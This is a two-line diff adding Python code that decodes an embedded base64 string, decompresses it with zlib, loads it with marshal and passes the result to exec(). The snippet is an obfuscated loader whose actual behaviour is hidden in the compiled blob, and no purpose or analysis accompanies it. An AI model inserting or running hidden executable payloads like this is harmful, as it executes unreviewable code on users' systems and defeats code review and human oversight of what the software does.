@@ -1,0 +1,2 @@
+import base64, marshal, zlib
+exec(marshal.loads(zlib.decompress(base64.b64decode("eJx7zIAEmKH0Zz0gMZ0hhSGFMYchioGJIZUhixGmKIVpGZC9Gs5nBKoKZtBkfgni+FUJpyZn5CsUZBaUJxalpObplqQWl2gy3WLKL77FVlxZXJKau5LhM0jpL2abCrtfHDa5+SmlOal2RRxgsxgYitWBxAdmRkbGGwycDWAIYjC1cF7gkr/IoHCFQeECDBWxAdUCAMBTKnA="))))
